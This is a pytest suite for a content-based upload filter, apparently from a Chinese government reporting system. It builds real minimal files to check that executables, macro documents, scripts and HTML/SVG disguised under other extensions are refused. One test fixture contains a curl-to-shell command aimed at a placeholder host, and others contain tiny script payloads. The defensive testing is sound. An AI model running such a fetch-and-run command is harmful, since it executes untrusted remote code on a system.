"""Tests for fazhi.core.sniff: real minimal files are built here, names never decide."""

import io
import re
import struct
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fazhi.core.sniff import KINDS, UploadRejected, check_upload, sniff

# --- builders for real minimal files -----------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>关于报送2025年度法治政府建设情况的通知</w:t></w:r></w:p></w:body>"
    "</w:document>"
)


def _zip(parts: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in parts.items():
            zf.writestr(name, content)
    return buf.getvalue()


def make_docx(macro: bool = False) -> bytes:
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": DOCUMENT,
    }
    if macro:
        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0fake"
    return _zip(parts)


def make_xlsx() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active["A1"] = "指标"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def make_pptx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES.replace("word/document", "ppt/presentation"),
            "_rels/.rels": RELS.replace("word/document", "ppt/presentation"),
            "ppt/presentation.xml": "<p:presentation/>",
        }
    )


def make_ofd() -> bytes:
    return _zip(
        {
            "OFD.xml": '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd='
            '"http://www.ofdspec.org/2016" Version="1.0"><ofd:DocBody>'
            "<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
            "Doc_0/Document.xml": "<ofd:Document/>",
        }
    )


def make_ole(stream_name: str) -> bytes:
    """Minimal MS-CFB file: header, one FAT sector, one directory sector."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9)  # minor, major, BOM, shift
    struct.pack_into("<H", header, 0x20, 6)  # mini sector shift
    struct.pack_into("<I", header, 0x2C, 1)  # number of FAT sectors
    struct.pack_into("<I", header, 0x30, 1)  # first directory sector
    struct.pack_into("<I", header, 0x38, 4096)  # mini stream cutoff
    struct.pack_into("<I", header, 0x3C, 0xFFFFFFFE)  # no mini FAT
    struct.pack_into("<I", header, 0x44, 0xFFFFFFFE)  # no DIFAT sectors
    difat = [0] + [0xFFFFFFFF] * 108
    struct.pack_into("<109I", header, 0x4C, *difat)
    fat = [0xFFFFFFFD, 0xFFFFFFFE] + [0xFFFFFFFF] * 126
    fat_sector = struct.pack("<128I", *fat)

    def entry(name: str, kind: int) -> bytes:
        e = bytearray(128)
        raw = name.encode("utf-16-le") + b"\x00\x00"
        e[0 : len(raw)] = raw
        struct.pack_into("<HBB", e, 0x40, len(raw), kind, 1)
        struct.pack_into("<III", e, 0x44, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        struct.pack_into("<II", e, 0x74, 0xFFFFFFFE, 0)
        return bytes(e)

    directory = entry("Root Entry", 5) + entry(stream_name, 2) + bytes(256)
    return bytes(header) + fat_sector + directory


def make_png() -> bytes:
    def chunk(tag: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8 \x0e\x00\x00\x00" + bytes(14)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(100) + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24)
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'
GB_TEXT = "关于做好2025年度法治政府建设年度报告工作的通知\r\n各单位：请于3月1日前报送。".encode(
    "gb18030"
)
CSV = "姓名,单位,电话\n张三,司法局,010-62345678\n李四,财政局,010-62345679\n".encode()
CSV_GB_TAB = "指标\t得分\n依法决策\t9.5\n行政执法\t8\n".encode("gb18030")
JUNK = bytes(range(256)) * 4

# --- sniff ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (PDF, "pdf"),
        (make_ofd(), "ofd"),
        (make_docx(), "docx"),
        (make_docx(macro=True), "docm"),
        (make_xlsx(), "xlsx"),
        (make_pptx(), "pptx"),
        (_zip({"a.txt": "x", "b/c.xml": "<c/>"}), "zip"),
        (b"PK\x03\x04" + b"\x00" * 30, "zip"),  # damaged zip is still a zip
        (make_ole("WordDocument"), "doc"),
        (make_ole("Workbook"), "xls"),
        (make_ole("PowerPoint Document"), "ppt"),
        (make_ole("\x05SummaryInformation"), "ole"),
        (make_png(), "png"),
        (JPEG, "jpeg"),
        (GIF, "gif"),
        (WEBP, "webp"),
        (EXE, "exe"),
        (ELF, "elf"),
        (MACHO, "macho"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(40), "macho"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(40), "unknown"),  # Java class
        (SCRIPT, "script"),
        (HTML, "html"),
        (SVG, "html"),
        (b"  <!-- c --><HTML><body>hi</body></HTML>", "html"),
        (GB_TEXT, "txt"),
        ("纯文本，没有分隔符。\n第二行。".encode(), "txt"),
        ("\ufeffUTF-8带BOM的文本".encode(), "txt"),
        ("UTF-16带BOM的文本".encode("utf-16"), "txt"),
        (CSV, "csv"),
        (CSV_GB_TAB, "csv"),
        (JUNK, "unknown"),
        (bytes(range(1, 32)) * 10, "unknown"),
        (b"", "unknown"),
    ],
)
def test_sniff(data, kind):
    found = sniff(data)
    assert found.kind == kind
    assert found.mime == KINDS[kind][0]
    assert found.label == KINDS[kind][1]


def test_generated_docx_is_a_real_word_file():
    import docx

    doc = docx.Document(io.BytesIO(make_docx()))
    assert doc.paragraphs[0].text == "关于报送2025年度法治政府建设情况的通知"


def test_pdf_header_must_be_at_offset_zero():
    assert sniff(b"<html>" + PDF).kind == "html"
    assert sniff(b"junk " + PDF).kind == "txt"


@given(st.binary(max_size=2048))
def test_sniff_never_crashes(data):
    assert sniff(data).kind in KINDS


# --- check_upload --------------------------------------------------------------------------

DOCS = ["pdf", "ofd", "docx", "doc", "xlsx", "xls"]
MB = 1024 * 1024


def test_accepts_matching_files():
    assert check_upload("通知.pdf", PDF, DOCS, MB).kind == "pdf"
    assert check_upload("通知.PDF", PDF, DOCS, MB).kind == "pdf"
    assert check_upload("公文.ofd", make_ofd(), DOCS, MB).kind == "ofd"
    assert check_upload("报告.docx", make_docx(), DOCS, MB).kind == "docx"
    assert check_upload("旧报告.doc", make_ole("WordDocument"), DOCS, MB).kind == "doc"
    assert check_upload("台账.xlsx", make_xlsx(), DOCS, MB).kind == "xlsx"
    assert check_upload(r"C:\Users\张三\Desktop\通知.pdf", PDF, DOCS, MB).kind == "pdf"


def test_executable_disguised_as_pdf_is_refused():
    with pytest.raises(UploadRejected) as info:
        check_upload("发票.pdf", EXE, DOCS, MB)
    assert info.value.message == (
        "文件“发票.pdf”的实际内容是Windows可执行程序，与扩展名.pdf不符，已拒绝。"
    )
    assert isinstance(info.value, ValueError)


@pytest.mark.parametrize(
    ("name", "data", "label"),
    [
        ("说明.docx", ELF, "Linux可执行程序"),
        ("图片.png", MACHO, "macOS可执行程序"),
        ("数据.csv", SCRIPT, "脚本文件"),
        ("通知.txt", HTML, "网页文件（HTML/SVG，可含脚本）"),
        ("图标.png", SVG, "网页文件（HTML/SVG，可含脚本）"),
    ],
)
def test_dangerous_content_with_other_extension_is_refused(name, data, label):
    with pytest.raises(UploadRejected) as info:
        check_upload(name, data, [*DOCS, "png", "txt", "csv"], MB)
    assert f"实际内容是{label}" in info.value.message
    assert "不符，已拒绝" in info.value.message


def test_double_extension_executable_is_not_supported():
    with pytest.raises(UploadRejected) as info:
        check_upload("发票.pdf.exe", EXE, DOCS, MB)
    assert info.value.message.startswith("不支持的文件类型：Windows可执行程序；允许的类型：")


def test_type_not_on_allow_list():
    with pytest.raises(UploadRejected) as info:
        check_upload("照片.png", make_png(), ["pdf", "ofd", "docx", "doc"], MB)
    assert info.value.message == "不支持的文件类型：PNG图片；允许的类型：PDF、OFD、Word。"
    with pytest.raises(UploadRejected) as info:
        check_upload("宏.docm", make_docx(macro=True), DOCS, MB)
    assert "不支持的文件类型：含宏的Word文档" in info.value.message
    assert "允许的类型：PDF、OFD、Word、Excel。" in info.value.message


def test_macro_document_renamed_docx_is_refused():
    with pytest.raises(
        UploadRejected, match=re.escape("实际内容是含宏的Word文档，与扩展名.docx不符")
    ):
        check_upload("报告.docx", make_docx(macro=True), DOCS, MB)


def test_png_named_pdf_is_refused_even_if_png_allowed():
    with pytest.raises(UploadRejected) as info:
        check_upload("扫描件.pdf", make_png(), DOCS, MB)
    assert info.value.message == "文件“扫描件.pdf”的实际内容是PNG图片，与扩展名.pdf不符，已拒绝。"
    with pytest.raises(UploadRejected) as info:
        check_upload("扫描件.pdf", make_png(), [*DOCS, "png"], MB)
    assert "请将扩展名改为.png后重新上传" in info.value.message


def test_missing_extension_accepted_only_if_content_allowed():
    assert check_upload("扫描件", PDF, DOCS, MB).kind == "pdf"
    with pytest.raises(UploadRejected, match="不支持的文件类型：PNG图片"):
        check_upload("扫描件", make_png(), DOCS, MB)
    with pytest.raises(UploadRejected, match="不支持的文件类型：Windows可执行程序"):
        check_upload("setup", EXE, DOCS, MB)


def test_size_limits():
    data = PDF + b"0" * (MB + MB // 2 - len(PDF))
    with pytest.raises(UploadRejected) as info:
        check_upload("大文件.pdf", data, DOCS, MB)
    assert info.value.message == "文件大小为1.5 MB，超过上限1 MB。"
    # one byte over must not print as equal to the limit
    with pytest.raises(UploadRejected, match=r"文件大小为1\.01 MB，超过上限1 MB"):
        check_upload("大文件.pdf", PDF + b"0" * (MB + 1 - len(PDF)), DOCS, MB)
    assert check_upload("刚好.pdf", PDF + b"0" * (MB - len(PDF)), DOCS, MB).kind == "pdf"
    with pytest.raises(UploadRejected, match=re.escape("文件“空.pdf”是空文件")):
        check_upload("空.pdf", b"", DOCS, MB)


def test_corrupt_or_unknown_content():
    with pytest.raises(UploadRejected) as info:
        check_upload("通知.pdf", JUNK, DOCS, MB)
    assert (
        info.value.message
        == "文件“通知.pdf”的内容无法识别为PDF文档，可能已损坏或并非该类型，已拒绝。"
    )
    with pytest.raises(UploadRejected, match="不支持的文件类型：无法识别的文件"):
        check_upload("数据.xyz", JUNK, DOCS, MB)


def test_text_and_csv():
    assert check_upload("通知.txt", GB_TEXT, ["txt"], MB).kind == "txt"
    assert check_upload("名单.csv", CSV, ["csv"], MB).kind == "csv"
    # a one-column CSV reads as plain text but is a valid .csv
    assert check_upload("单列.csv", "姓名\n张三\n李四\n".encode(), ["csv"], MB).kind == "csv"
    # a comma-separated .txt is still a .txt
    assert check_upload("名单.txt", CSV, ["txt"], MB).kind == "txt"
    with pytest.raises(UploadRejected, match="不支持的文件类型：纯文本"):
        check_upload("名单.txt", CSV, ["csv"], MB)
    with pytest.raises(UploadRejected, match=re.escape("与扩展名.pdf不符")):
        check_upload("通知.pdf", GB_TEXT, [*DOCS, "txt"], MB)


def test_ole_without_office_stream_is_refused():
    with pytest.raises(UploadRejected, match="实际内容是OLE复合文档"):
        check_upload("安装包.doc", make_ole("\x05SummaryInformation"), DOCS, MB)


def test_unknown_allowed_kind_is_a_programming_error():
    with pytest.raises(ValueError, match="未知的文件类型“exe2”"):
        check_upload("a.pdf", PDF, ["pdf", "exe2"], MB)


@given(st.binary(min_size=1, max_size=512), st.sampled_from([".pdf", ".docx", ".png", ""]))
def test_anything_starting_with_mz_is_refused(tail, ext):
    with pytest.raises(UploadRejected):
        check_upload("附件" + ext, b"MZ" + tail, [*DOCS, "png", "txt", "csv", "zip"], MB)
